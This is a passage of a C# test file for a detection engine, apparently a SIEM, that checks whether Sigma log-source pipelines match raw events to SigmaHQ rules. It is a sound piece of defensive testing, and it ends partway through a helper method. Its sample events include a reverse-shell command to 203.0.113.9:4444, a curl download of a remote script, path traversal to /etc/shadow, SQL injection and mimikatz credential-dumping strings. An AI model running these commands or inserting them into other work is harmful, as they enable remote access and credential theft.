using System.Text;

using YamlDotNet.RepresentationModel;

using Yagura.Detection.Events;
using Yagura.Detection.Sigma;
using Yagura.Ingest;
using Yagura.Ingest.Parsing;
using Yagura.Testing;

namespace Yagura.Detection.Tests.Sigma;

/// <summary>
/// The log-source pipelines of content/pipelines: for each pipeline file, events of its main log sources (raw, as
/// Yagura receives them, through the real parsers) fire real SigmaHQ rules, and events of other products do not
/// satisfy its log sources even when they carry what the rule's detection looks for.
/// </summary>
public sealed class PipelineTests : IDisposable
{
    private static readonly string Sigma = Path.Combine(RepositoryPaths.Shared, "sigma");
    private static readonly Lazy<SigmaPipeline> Pipelines = new(() => SigmaPipeline.Load([RepositoryPaths.Content("pipelines")]));
    private static readonly DateTimeOffset Received = new(2026, 11, 25, 12, 0, 0, TimeSpan.Zero);

    private readonly SigmaTestRules _rules = new();

    public void Dispose() => _rules.Dispose();

    [Fact]
    public void Pipelines_LoadWithoutErrors()
    {
        var pipeline = Pipelines.Value;

        Assert.Empty(pipeline.Errors);
        Assert.Subset(
            new HashSet<string>(pipeline.Names),
            new HashSet<string> { "windows", "linux", "macos", "web", "network", "zeek", "cisco", "fortigate", "aws", "azure", "gcp", "okta", "m365", "application" });
    }

    [Theory]
    // Sysmon for Linux, evtx JSON form.
    [InlineData("rules/linux/process_creation/proc_creation_lnx_susp_curl_useragent.yml",
        """{"Event":{"System":{"Provider":{"#attributes":{"Name":"Linux-Sysmon"}},"EventID":1,"Channel":"Linux-Sysmon/Operational","Computer":"web01"},"EventData":{"Image":"/usr/bin/curl","CommandLine":"curl -A Mozilla/5.0 http://203.0.113.9/x.sh","ParentImage":"/usr/bin/bash","User":"root"}}}""")]
    // Sysmon for Linux, flat JSON.
    [InlineData("rules-emerging-threats/2025/Exploits/CVE-2025-32463/file_event_lnx_exploit_cve_2025_32463.yml",
        """{"Channel":"Linux-Sysmon/Operational","EventID":11,"Computer":"web01","Image":"/usr/bin/sudo","TargetFilename":"/tmp/sudowoot/woot/etc/nsswitch.conf"}""")]
    // ECS from an endpoint agent.
    [InlineData("rules/linux/network_connection/net_connection_lnx_back_connect_shell_dev.yml",
        """{"host":{"os":{"type":"linux"},"name":"web01"},"event":{"category":["network"],"type":["start"]},"process":{"executable":"/bin/bash","pid":4242},"destination":{"ip":"203.0.113.9","port":4444}}""")]
    // auditd, raw audit.log lines (key=value).
    [InlineData("rules/linux/auditd/execve/lnx_auditd_capabilities_discovery.yml",
        """type=EXECVE msg=audit(1764032400.123:4567): argc=3 a0="getcap" a1="-r" a2="/" """)]
    [InlineData("rules/linux/auditd/syscall/lnx_auditd_susp_special_file_creation_via_mknod_syscall.yml",
        "type=SYSCALL msg=audit(1764032400.456:4570): arch=c000003e syscall=133 success=yes exit=0 a0=7ffd2b1c a1=11b6 a2=0 a3=0 items=2 ppid=811 pid=4242 auid=1000 uid=0 euid=0 comm=\"mknod\" exe=\"/usr/bin/mknod\" key=(null)\u001dARCH=x86_64 SYSCALL=mknod AUID=\"alice\" UID=\"root\"")]
    // syslog from a daemon.
    [InlineData("rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml",
        "<38>1 2026-11-25T10:00:00Z web01 sshd 4242 - - error: Corrupted MAC on input. [preauth]")]
    [InlineData("rules/linux/builtin/lnx_shell_susp_rev_shells.yml",
        "<13>Nov 25 10:00:00 web01 backup.sh[999]: running bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")]
    // systemd journal export.
    [InlineData("rules/linux/builtin/lnx_shell_susp_rev_shells.yml",
        """{"__REALTIME_TIMESTAMP":"1764064800000000","_BOOT_ID":"6e3b9c5d1f2a4b7c8d9e0f1a2b3c4d5e","_TRANSPORT":"stdout","_HOSTNAME":"web01","SYSLOG_IDENTIFIER":"backup","_COMM":"bash","MESSAGE":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}""")]
    public void Linux_EventOfEachLogSource_FiresSigmaHqRule(string rule, string raw) => AssertFires(rule, raw);

    [Theory]
    // Windows Sysmon, same fields: not Sysmon for Linux.
    [InlineData("rules/linux/process_creation/proc_creation_lnx_susp_curl_useragent.yml",
        """{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws01"},"EventData":{"Image":"C:/tools/usr/bin/curl","CommandLine":"curl -A Mozilla/5.0 http://203.0.113.9/x.sh"}}}""")]
    // A Cisco router's syslog: a network device, not a Linux host.
    [InlineData("rules/linux/builtin/lnx_shell_susp_rev_shells.yml",
        "<189>123: *Nov 25 10:00:00.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:bash -i >& /dev/tcp/203.0.113.9/4444")]
    // CloudTrail JSON carrying the same text.
    [InlineData("rules/linux/builtin/lnx_shell_susp_rev_shells.yml",
        """{"eventVersion":"1.09","eventSource":"ecs.amazonaws.com","eventName":"RegisterTaskDefinition","awsRegion":"eu-west-1","requestParameters":{"command":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}""")]
    // key=value that is not an audit record (FortiGate has `type=` too).
    [InlineData("rules/linux/auditd/execve/lnx_auditd_capabilities_discovery.yml",
        """date=2026-11-25 time=10:00:00 devname="FG100E" devid="FG100E3G12801234" logid="0100032001" type="EXECVE" a0="getcap" a1="-r" a2="/" """)]
    // Sysmon for Linux writes a Channel too, but it is no Windows event log.
    [InlineData("rules/windows/builtin/win_alert_mimikatz_keywords.yml",
        """{"Channel":"Linux-Sysmon/Operational","EventID":1,"Image":"/usr/bin/python3","CommandLine":"python3 kiwi.py sekurlsa::logonpasswords"}""")]
    // An sshd complaint logged by another daemon.
    [InlineData("rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml",
        "<38>1 2026-11-25T10:00:00Z web01 nginx 4242 - - upstream said: Corrupted MAC on input")]
    public void Linux_EventOfAnotherSource_DoesNotSatisfyTheLogSource(string rule, string raw) => AssertRejectedByLogSource(rule, raw);

    [Theory]
    [InlineData("rules/macos/process_creation/proc_creation_macos_csrutil_disable.yml",
        """{"host":{"os":{"type":"macos"},"name":"mbp01"},"event":{"category":["process"],"type":["start"]},"process":{"executable":"/usr/bin/csrutil","command_line":"csrutil disable","parent":{"executable":"/bin/zsh"}}}""")]
    // eslogger (Endpoint Security) exec event: the arguments are a list.
    [InlineData("rules/macos/process_creation/proc_creation_macos_xattr_gatekeeper_bypass.yml",
        """{"schema_version":1,"mach_time":1234567890123,"global_seq_num":4242,"event_type":9,"time":"2026-11-25T10:00:00.000000Z","process":{"executable":{"path":"/bin/zsh"}},"event":{"exec":{"target":{"executable":{"path":"/usr/bin/xattr"}},"args":["xattr","-d","com.apple.quarantine","/Users/alice/Downloads/app.dmg"]}}}""")]
    [InlineData("rules/macos/file_event/file_event_macos_susp_startup_item_created.yml",
        """{"host":{"os":{"type":"macos"}},"event":{"category":["file"],"type":["creation"]},"process":{"executable":"/bin/cp"},"file":{"path":"/Library/StartupItems/updater.plist"}}""")]
    public void Macos_EventOfEachLogSource_FiresSigmaHqRule(string rule, string raw) => AssertFires(rule, raw);

    [Theory]
    [InlineData("rules/macos/process_creation/proc_creation_macos_csrutil_disable.yml",
        """{"host":{"os":{"type":"linux"}},"event":{"category":["process"],"type":["start"]},"process":{"executable":"/usr/bin/csrutil","command_line":"csrutil disable"}}""")]
    [InlineData("rules/macos/process_creation/proc_creation_macos_csrutil_disable.yml",
        """{"Channel":"Linux-Sysmon/Operational","EventID":1,"Image":"/usr/bin/csrutil","CommandLine":"csrutil disable"}""")]
    public void Macos_EventOfAnotherProduct_DoesNotSatisfyTheLogSource(string rule, string raw) => AssertRejectedByLogSource(rule, raw);

    [Theory]
    // IIS W3C as JSON (nxlog).
    [InlineData("rules/web/webserver_generic/web_path_traversal_exploitation_attempt.yml",
        """{"EventTime":"2026-11-25 10:00:00","s-sitename":"W3SVC1","s-ip":"10.0.0.10","cs-method":"GET","cs-uri-stem":"/download.aspx","cs-uri-query":"file=../../../etc/passwd","s-port":443,"c-ip":"203.0.113.9","cs(User-Agent)":"curl/8.0","sc-status":200,"sc-substatus":0,"sc-win32-status":0}""")]
    // ECS (Filebeat nginx module).
    [InlineData("rules/web/webserver_generic/web_sql_injection_in_access_logs.yml",
        """{"@timestamp":"2026-11-25T10:00:00Z","event":{"dataset":"nginx.access","category":["web"]},"http":{"request":{"method":"GET"},"response":{"status_code":200}},"url":{"original":"/item.php?id=1%20union%20all=select%20password","path":"/item.php","query":"id=1%20union%20all=select%20password"},"source":{"ip":"203.0.113.9"},"user_agent":{"original":"sqlmap/1.8"}}""")]
    // nginx JSON log_format with its variable names.
    [InlineData("rules/web/webserver_generic/web_path_traversal_exploitation_attempt.yml",
        """{"time_local":"25/Nov/2026:10:00:00 +0000","remote_addr":"203.0.113.9","request_method":"GET","request_uri":"/dl?f=../../../etc/shadow","args":"f=../../../etc/shadow","status":"200","http_user_agent":"curl/8.0"}""")]
    // Combined Log Format behind a syslog header.
    [InlineData("rules/web/webserver_generic/web_jndi_exploit.yml",
        "<190>Nov 25 10:00:00 web01 nginx: 203.0.113.9 - - [25/Nov/2026:10:00:00 +0000] \"GET /Basic/Command/Base64/d2hvYW1p HTTP/1.1\" 404 153 \"-\" \"curl/8.0\"")]
    // Proxy: Zscaler NSS web log as CEF.
    [InlineData("rules/web/proxy_generic/proxy_hello_world_user_agent.yml",
        "CEF:0|Zscaler|NSSWeblog|5.7|Allowed|Allowed|3|act=Allowed reason=Allowed app=HTTP dhost=example.com dst=93.184.216.34 src=10.0.0.5 request=http://example.com/download requestClientApplication=Hello-World/1.0 requestMethod=GET suser=alice@example.com")]
    [InlineData("rules/web/proxy_generic/proxy_telegram_api.yml",
        "CEF:0|Zscaler|NSSWeblog|5.7|Allowed|Allowed|3|act=Allowed dhost=api.telegram.org dst=149.154.167.220 src=10.0.0.5 request=https://api.telegram.org/bot123/sendMessage requestClientApplication=python-requests/2.31 requestMethod=POST")]
    // Error logs, bare lines from a file forwarder.
    [InlineData("rules/web/product/apache/web_apache_segfault.yml",
        "[Wed Nov 25 10:00:00.123456 2026] [core:notice] [pid 1234:tid 140] AH00052: child pid 4567 exit signal Segmentation fault (11)")]
    [InlineData("rules/web/product/nginx/web_nginx_core_dump.yml",
        "2026/11/25 10:00:00 [alert] 1234#0: worker process 4567 exited on signal 6 (core dumped)")]
    public void Web_EventOfEachLogSource_FiresSigmaHqRule(string rule, string raw) => AssertFires(rule, raw);

    [Theory]
    // A Windows process whose command line holds the exploit path: not a web server log.
    [InlineData("rules/web/webserver_generic/web_jndi_exploit.yml",
        """{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\Windows\\System32\\curl.exe","CommandLine":"curl http://203.0.113.9/Basic/Command/Base64/d2hvYW1p"}""")]
    // A web server access line (CLF) is not a proxy log, and a Linux daemon is not nginx.
    [InlineData("rules/web/proxy_generic/proxy_telegram_api.yml",
        """{"event":{"dataset":"nginx.access","category":["web"]},"url":{"domain":"api.telegram.org","path":"/"},"http":{"request":{"method":"GET"},"response":{"status_code":200}}}""")]
    [InlineData("rules/web/product/nginx/web_nginx_core_dump.yml",
        "<30>Nov 25 10:00:00 web01 systemd[1]: php-fpm.service: main process exited on signal 6 (core dumped)")]
    public void Web_EventOfAnotherSource_DoesNotSatisfyTheLogSource(string rule, string raw) => AssertRejectedByLogSource(rule, raw);

    [Theory]
    // firewall: FortiGate traffic log (key=value).
    [InlineData("rules/network/firewall/net_firewall_cleartext_protocols.yml",
        """date=2026-11-25 time=10:00:00 devname="FG100E" devid="FG100E3G12801234" logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=10.0.0.5 srcport=50000 dstip=198.51.100.7 dstport=23 proto=6 action="accept" policyid=1""")]
    // dns: Zeek dns.log and ECS.
    [InlineData("rules/network/dns/net_dns_susp_telegram_api.yml",
        """{"ts":1764064800.123,"uid":"CHhAvVGS1DHFjwGM9","id.orig_h":"10.0.0.5","id.orig_p":53211,"id.resp_h":"10.0.0.53","id.resp_p":53,"proto":"udp","trans_id":4242,"query":"api.telegram.org","qclass":1,"qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,"answers":["149.154.167.220"],"rejected":false}""")]
    [InlineData("rules/network/dns/net_dns_susp_telegram_api.yml",
        """{"@timestamp":"2026-11-25T10:00:00Z","event":{"dataset":"network_traffic.dns"},"dns":{"type":"query","question":{"name":"api.telegram.org","type":"A"}},"source":{"ip":"10.0.0.5"}}""")]
    // antivirus: Microsoft Defender 1116 in evtx JSON form (Sigma's Signature is its "Threat Name").
    [InlineData("rules/category/antivirus/av_hacktool.yml",
        """{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Windows Defender"}},"EventID":1116,"Channel":"Microsoft-Windows-Windows Defender/Operational","Computer":"ws01"},"EventData":{"Threat Name":"HackTool:Win32/Mimikatz.D","Path":"file:_C:\\Users\\Public\\m.exe","Severity Name":"High"}}}""")]
    // zeek, by _path and by the log's own fields.
    [InlineData("rules/network/zeek/zeek_dce_rpc_potential_petit_potam_efs_rpc_call.yml",
        """{"_path":"dce_rpc","ts":1764064800.5,"uid":"C1","id.orig_h":"10.0.0.66","id.orig_p":50000,"id.resp_h":"10.0.0.10","id.resp_p":445,"named_pipe":"\\pipe\\lsarpc","endpoint":"efsrpc","operation":"efsRpcOpenFileRaw"}""")]
    [InlineData("rules/network/zeek/zeek_http_webdav_put_request.yml",
        """{"ts":1764064800.5,"uid":"C2","id.orig_h":"10.0.0.5","id.orig_p":50001,"id.resp_h":"198.51.100.7","id.resp_p":80,"trans_depth":1,"method":"PUT","host":"198.51.100.7","uri":"/share/x.exe","user_agent":"Microsoft-WebDAV-MiniRedir/10.0.19045","request_body_len":4096,"response_body_len":0,"status_code":201}""")]
    // cisco: IOS archive logging and ASA command accounting.
    [InlineData("rules/network/cisco/aaa/cisco_cli_clear_logs.yml",
        "<189>123: *Nov 25 10:00:00.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:clear logging")]
    [InlineData("rules/network/cisco/aaa/cisco_cli_clear_logs.yml",
        "<166>Nov 25 2026 10:00:00 asa01 : %ASA-5-111008: User 'enable_15' executed the 'clear logging' command.")]
    [InlineData("rules/network/fortinet/fortigate/fortinet_fortigate_new_firewall_policy_added.yml",
        """<189>date=2026-11-25 time=10:00:00 devname="FG100E" devid="FG100E3G12801234" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(10.0.0.1)" action="Add" cfgpath="firewall.policy" cfgobj="7" msg="Add firewall.policy 7" """)]
    [InlineData("rules/network/huawei/bgp/huawei_bgp_auth_failed.yml",
        "<187>Nov 25 2026 10:00:00 HUAWEI %%01BGP/3/BGP_AUTH_FAILED(l)[1]:BGP authentication failed. (PeerAddress=10.0.0.1:179, SourceInterface=GE0/0/1)")]
    [InlineData("rules/network/juniper/bgp/juniper_bgp_missing_md5.yml",
        "<28>Nov 25 10:00:00 router1 /kernel: tcp_auth_ok: Packet from 10.0.0.2:179 missing MD5 digest")]
    [InlineData("rules/application/opencanary/opencanary_ftp_login_attempt.yml",
        """{"dst_host":"10.0.0.20","dst_port":21,"local_time":"2026-11-25 10:00:00.123456","logdata":{"PASSWORD":"hunter2","USERNAME":"admin"},"logtype":2000,"node_id":"opencanary-1","src_host":"203.0.113.9","src_port":50000}""")]
    [InlineData("rules/application/rpc_firewall/rpc_firewall_atsvc_lateral_movement.yml",
        """{"Event":{"System":{"Provider":{"#attributes":{"Name":"RPCFW"}},"EventID":3,"Channel":"RPCFW","Computer":"dc01"},"EventData":{"Function":"RpcServerCall","InterfaceUuid":"1ff70682-0a51-30e8-076d-740be8cee98b","OpNum":1,"SourceAddress":"10.0.0.66","Protocol":"ncacn_np"}}}""")]
    public void Network_EventOfEachLogSource_FiresSigmaHqRule(string rule, string raw) => AssertFires(rule, raw);

    [Theory]
    // A Linux host's syslog with a network device's words.
    [InlineData("rules/network/cisco/aaa/cisco_cli_clear_logs.yml",
        "<86>Nov 25 10:00:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/echo clear logging")]
    [InlineData("rules/network/huawei/bgp/huawei_bgp_auth_failed.yml",
        "<30>Nov 25 10:00:00 web01 bird[77]: BGP_AUTH_FAILED from 10.0.0.1:179")]
    [InlineData("rules/network/juniper/bgp/juniper_bgp_missing_md5.yml",
        "<30>Nov 25 10:00:00 web01 bird[77]: peer 10.0.0.2:179 missing MD5 digest")]
    // A Sysmon image load signed by a name the AV rule looks for: Signature is shared, antivirus is not.
    [InlineData("rules/category/antivirus/av_hacktool.yml",
        """{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":7,"Image":"C:\\Temp\\a.exe","ImageLoaded":"C:\\Temp\\b.dll","Signature":"HackTool Mimikatz Ltd"}""")]
    // Suricata's DCE/RPC event: the same names, another sensor.
    [InlineData("rules/network/zeek/zeek_dce_rpc_potential_petit_potam_efs_rpc_call.yml",
        """{"timestamp":"2026-11-25T10:00:00.000000+00:00","event_type":"dcerpc","src_ip":"10.0.0.66","dest_ip":"10.0.0.10","dest_port":445,"operation":"efsRpcOpenFileRaw","endpoint":"efsrpc"}""")]
    // FortiGate event log that is a Sophos log in fact (no FortiGate devid).
    [InlineData("rules/network/fortinet/fortigate/fortinet_fortigate_new_firewall_policy_added.yml",
        """device="SFW" date=2026-11-25 time=10:00:00 device_id=C01001K234RXPF1 log_id=062009617501 type="event" action="Add" cfgpath="firewall.policy" """)]
    public void Network_EventOfAnotherProduct_DoesNotSatisfyTheLogSource(string rule, string raw) => AssertRejectedByLogSource(rule, raw);

    [Theory]
    [InlineData("rules/cloud/aws/cloudtrail/aws_cloudtrail_disable_logging.yml",
        """{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::123456789012:user/alice"},"eventTime":"2026-11-25T10:00:00Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","awsRegion":"eu-west-1","sourceIPAddress":"203.0.113.9","userAgent":"aws-cli/2.15","requestParameters":{"name":"main-trail"},"eventType":"AwsApiCall","recipientAccountId":"123456789012"}""")]
    // The same record as EventBridge delivers it.
    [InlineData("rules/cloud/aws/cloudtrail/aws_cloudtrail_disable_logging.yml",
        """{"version":"0","id":"6a7e8feb","detail-type":"AWS API Call via CloudTrail","source":"aws.cloudtrail","account":"123456789012","region":"eu-west-1","detail":{"eventVersion":"1.09","eventSource":"cloudtrail.amazonaws.com","eventName":"DeleteTrail","awsRegion":"eu-west-1","eventType":"AwsApiCall"}}""")]
    // Azure activity log, diagnostic-settings export.
    [InlineData("rules/cloud/azure/activity_logs/azure_keyvault_modified_or_deleted.yml",
        """{"time":"2026-11-25T10:00:00.0000000Z","resourceId":"/SUBSCRIPTIONS/0000/RESOURCEGROUPS/RG1/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/KV1","operationName":"MICROSOFT.KEYVAULT/VAULTS/DELETE","category":"Administrative","resultType":"Success","callerIpAddress":"203.0.113.9","properties":{"eventCategory":"Administrative"}}""")]
    // Entra ID sign-in, diagnostic-settings export (ResultType is resultType there).
    [InlineData("rules/cloud/azure/signin_logs/azure_account_lockout.yml",
        """{"time":"2026-11-25T10:00:00.0000000Z","resourceId":"/tenants/1111/providers/Microsoft.aadiam","operationName":"Sign-in activity","category":"SignInLogs","tenantId":"1111","resultType":"50053","resultDescription":"Account is locked","properties":{"userPrincipalName":"alice@example.com","status":{"errorCode":50053}}}""")]
    // Entra ID audit, Log Analytics row.
    [InlineData("rules/cloud/azure/audit_logs/azure_ad_bitlocker_key_retrieval.yml",
        """{"TenantId":"1111","Type":"AuditLogs","TimeGenerated":"2026-11-25T10:00:00Z","Category":"KeyManagement","OperationName":"Read BitLocker key","LoggedByService":"Core Directory","Result":"success"}""")]
    // Entra ID audit, Microsoft Graph directoryAudit.
    [InlineData("rules/cloud/azure/audit_logs/azure_service_principal_created.yml",
        """{"id":"Directory_1","category":"ApplicationManagement","correlationId":"c1","result":"success","activityDisplayName":"Add service principal","activityDateTime":"2026-11-25T10:00:00Z","loggedByService":"Core Directory","operationType":"Add"}""")]
    // Entra ID Protection, Microsoft Graph riskDetection.
    [InlineData("rules/cloud/azure/identity_protection/azure_identity_protection_atypical_travel.yml",
        """{"id":"r1","riskEventType":"unlikelyTravel","riskState":"atRisk","riskLevel":"medium","detectionTimingType":"offline","activityDateTime":"2026-11-25T10:00:00Z","userPrincipalName":"alice@example.com"}""")]
    [InlineData("rules/cloud/gcp/audit/gcp_bucket_modified_or_deleted.yml",
        """{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"storage.googleapis.com","methodName":"storage.buckets.delete","resourceName":"projects/_/buckets/b1"},"insertId":"x1","resource":{"type":"gcs_bucket"},"timestamp":"2026-11-25T10:00:00Z","logName":"projects/p1/logs/cloudaudit.googleapis.com%2Factivity"}""")]
    [InlineData("rules/identity/okta/okta_api_token_created.yml",
        """{"uuid":"8f1e","published":"2026-11-25T10:00:00.000Z","eventType":"system.api_token.create","version":"0","severity":"INFO","displayMessage":"Create API token","actor":{"alternateId":"admin@example.com","type":"User"},"outcome":{"result":"SUCCESS"},"target":[{"type":"Token","displayName":"ci"}]}""")]
    [InlineData("rules-threat-hunting/cloud/m365/audit/microsoft365_susp_inbox_rule_creation_or_update_activity.yml",
        """{"CreationTime":"2026-11-25T10:00:00","Id":"a1","Operation":"New-InboxRule","OrganizationId":"o1","RecordType":1,"ResultStatus":"True","UserId":"alice@example.com","Workload":"Exchange","Parameters":[{"Name":"Name","Value":"x"},{"Name":"DeleteMessage","Value":"True"}]}""")]
    [InlineData("rules/application/github/audit/github_new_org_member.yml",
        """{"@timestamp":1764064800000,"_document_id":"Pf1a","action":"org.add_member","actor":"alice","org":"example","user":"mallory","created_at":1764064800000}""")]
    [InlineData("rules/application/bitbucket/audit/bitbucket_audit_full_data_export_triggered.yml",
        """{"auditType":{"action":"Full data export triggered","category":"Data pipeline","level":"BASE"},"author":{"name":"alice","type":"NORMAL"},"method":"Browser","system":"https://bitbucket.example.com","version":"1.0"}""")]
    [InlineData("rules/application/kubernetes/audit/kubernetes_audit_exec_into_container.yml",
        """{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a1","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/default/pods/web-1/exec?command=sh","verb":"create","user":{"username":"alice"},"objectRef":{"resource":"pods","namespace":"default","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"code":101}}""")]
    [InlineData("rules/identity/onelogin/onelogin_user_account_locked.yml",
        """{"id":1,"created_at":"2026-11-25T10:00:00Z","account_id":42,"user_id":7,"event_type_id":532,"ipaddr":"203.0.113.9"}""")]
    [InlineData("rules/identity/cisco_duo/cisco_duo_mfa_bypass_via_bypass_code.yml",
        """{"txid":"340a23e3","event_type":"authentication","result":"success","reason":"bypass_user","factor":"bypass_code","isotimestamp":"2026-11-25T10:00:00+00:00","user":{"name":"alice"}}""")]
    public void Cloud_EventOfEachLogSource_FiresSigmaHqRule(string rule, string raw) => AssertFires(rule, raw);

    [Theory]
    // CloudTrail has `eventType` (AwsApiCall) too: not Okta.
    [InlineData("{product: okta, service: okta}", "eventType",
        """{"eventVersion":"1.09","eventSource":"sts.amazonaws.com","eventName":"AssumeRole","eventType":"AwsApiCall","awsRegion":"eu-west-1"}""")]
    // M365 alert written the way SigmaHQ's m365 rules name it: not CloudTrail.
    [InlineData("{product: aws, service: cloudtrail}", "eventSource",
        """{"CreationTime":"2026-11-25T10:00:00","RecordType":40,"Workload":"SecurityComplianceCenter","eventSource":"SecurityComplianceCenter","eventName":"Impossible travel activity","Operation":"AlertTriggered"}""")]
    // FortiGate's `action` (and event.action): not GitHub.
    [InlineData("{product: github, service: audit}", "action",
        """date=2026-11-25 time=10:00:00 devname="FG100E" devid="FG100E3G12801234" logid="0100044547" type="event" action="Add" """)]
    // CloudTrail's userAgent: not an Entra ID sign-in.
    [InlineData("{product: azure, service: signinlogs}", "userAgent",
        """{"eventVersion":"1.09","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","userAgent":"Mozilla/5.0","eventType":"AwsConsoleSignIn"}""")]
    // Suricata EVE's event_type: not Duo.
    [InlineData("{product: cisco, service: duo}", "event_type",
        """{"timestamp":"2026-11-25T10:00:00.000000+00:00","event_type":"alert","src_ip":"10.0.0.5","dest_ip":"203.0.113.9","alert":{"signature":"ET POLICY"}}""")]
    // Kubernetes-looking verb in a GCP audit entry of GKE: GKE audit is GCP's shape, not the API server's.
    [InlineData("{product: kubernetes, service: audit}", "verb",
        """{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","methodName":"io.k8s.core.v1.pods.create"},"verb":"create","logName":"projects/p1/logs/cloudaudit.googleapis.com%2Factivity","resource":{"type":"k8s_cluster"}}""")]
    public void Cloud_EventOfAnotherProduct_DoesNotSatisfyTheLogSource(string logSource, string field, string raw)
    {
        var rule = $"""
            title: Field present
            id: field-present
            logsource: {logSource}
            detection:
                sel:
                    {field}|exists: true
                condition: sel
            """;

        AssertRejectedByLogSource(_rules.Write(rule), raw);
    }

    [Theory]
    [InlineData("rules/application/jvm/java_rce_exploitation_attempt.yml",
        """{"@timestamp":"2026-11-25T10:00:00Z","service":{"type":"java","name":"billing"},"log":{"level":"ERROR","logger":"com.example.Exec"},"message":"java.io.IOException: Cannot run program \"sh\": error=2"}""")]
    [InlineData("rules/application/spring/spring_spel_injection.yml",
        "<11>Nov 25 10:00:00 app01 java[4242]: ERROR o.s.web.servlet: org.springframework.expression.ExpressionException: Expression parsing failed")]
    [InlineData("rules/application/sql/app_sqlinjection_errors.yml",
        "<131>Nov 25 10:00:00 db01 mysqld[811]: [ERROR] You have an error in your SQL syntax; check the manual near ''1''' at line 1")]
    public void Application_LabelledLog_FiresSigmaHqRule(string rule, string raw) => AssertFires(rule, raw);

    [Theory]
    // The same words in a web server's access log, which is nobody's application log.
    [InlineData("rules/application/jvm/java_rce_exploitation_attempt.yml",
        "<190>Nov 25 10:00:00 web01 nginx: 203.0.113.9 - - [25/Nov/2026:10:00:00 +0000] \"GET /?x=java.lang.ProcessBuilder HTTP/1.1\" 404 153 \"-\" \"curl/8.0\"")]
    public void Application_UnlabelledLog_DoesNotSatisfyTheLogSource(string rule, string raw) => AssertRejectedByLogSource(rule, raw);

    [Theory]
    // evtx JSON whose EventData names have spaces ("Source Name"), which rules write without them (SourceName); and a
    // UserData field under its wrapping element. Ingested as one JSON line, as serve receives them.
    [InlineData("rules-emerging-threats/2026/Exploits/RedSun/win_defender_exploit_redsun_tiering_engine_detected_as_eicar")]
    [InlineData("rules/windows/builtin/wmi/win_wmi_activity_nteventlogfile_cleareventlog")]
    public void Windows_EvtxJsonIngested_FiresItsRegressionRule(string regression)
    {
        var directory = Path.Combine(Sigma, "regression_data", regression);
        var json = File.ReadAllText(Directory.EnumerateFiles(directory, "*.json").Single());
        var line = System.Text.Json.JsonSerializer.Serialize(System.Text.Json.JsonDocument.Parse(json).RootElement);
        var rule = Directory.EnumerateFiles(Sigma, Path.GetFileName(regression) + ".yml", SearchOption.AllDirectories).Single();
        AssertFires(Path.GetRelativePath(Sigma, rule), line);
    }

    /// <summary>The event as ingest hands it to detection: format detected, parsed and normalised.</summary>
    private static DetectionEvent Ingest(string raw)
    {
        var context = new MessageContext(1, "default", Received, Transport.Tcp, "192.0.2.10", Truncated: false, Format: null);
        var record = LogParser.Parse(Encoding.UTF8.GetBytes(raw), context);
        Assert.True(record.ErrorMessage is null, $"test event does not parse cleanly: {record.ErrorMessage}");
        return DetectionEvent.FromRecord(record);
    }

    private static List<SigmaRule> Match(SigmaRuleSet set, string raw)
    {
        var matches = new List<SigmaRule>();
        set.CreateMatcher().Match(Ingest(raw), matches);
        return matches;
    }

    private static SigmaRuleSet LoadActive(string path)
    {
        var set = SigmaRuleSet.Load([path], Pipelines.Value);
        Assert.True(set.Errors.Count == 0 && set.Unsupported.Count == 0, string.Join("; ", set.Errors.Concat(set.Unsupported).Select(p => p.Error)));
        Assert.True(set.Inactive.Count == 0, string.Join("; ", set.Inactive.Select(p => p.Error)));
        return set;
    }

    private static void AssertFires(string rule, string raw)
    {
        var set = LoadActive(Path.Combine(Sigma, rule));
        Assert.Equal([set.Rules.Single().Id], Match(set, raw).Select(r => r.Id));
    }

    /// <summary>
    /// The rule does not fire, although its detection matches the event: the same detection fires as a control rule
    /// that keeps only the product (so the product's field mapping still applies) and runs with a pipeline in which
    /// that product is every event.
    /// </summary>
    private void AssertRejectedByLogSource(string rule, string raw)
    {
        var path = Path.IsPathRooted(rule) ? rule : Path.Combine(Sigma, rule);
        var set = LoadActive(path);
        Assert.Empty(Match(set, raw));

        var (control, product) = ControlRule(path);
        List<string> pipelines = [RepositoryPaths.Content("pipelines")];
        if (product is not null)
        {
            pipelines.Add(_rules.Write($"name: control\nlogsources:\n  - product: {product}\n    when:\n      tenant.id|exists: true\n", "control-pipeline.yaml"));
        }

        var anywhere = SigmaRuleSet.Load([_rules.Write(control)], SigmaPipeline.Load(pipelines));
        Assert.Equal(["control"], Match(anywhere, raw).Select(r => r.Id));
    }

    private static (string Yaml, string? Product) ControlRule(string path)
    {
        var stream = new YamlStream();
        using (var reader = File.OpenText(path))
        {
            stream.Load(reader);
        }

        var root = (YamlMappingNode)stream.Documents[0].RootNode;
        var logSource = (YamlMappingNode)root.Children[new YamlScalarNode("logsource")];
        var product = logSource.Children.TryGetValue(new YamlScalarNode("product"), out var p) ? ((YamlScalarNode)p).Value : null;
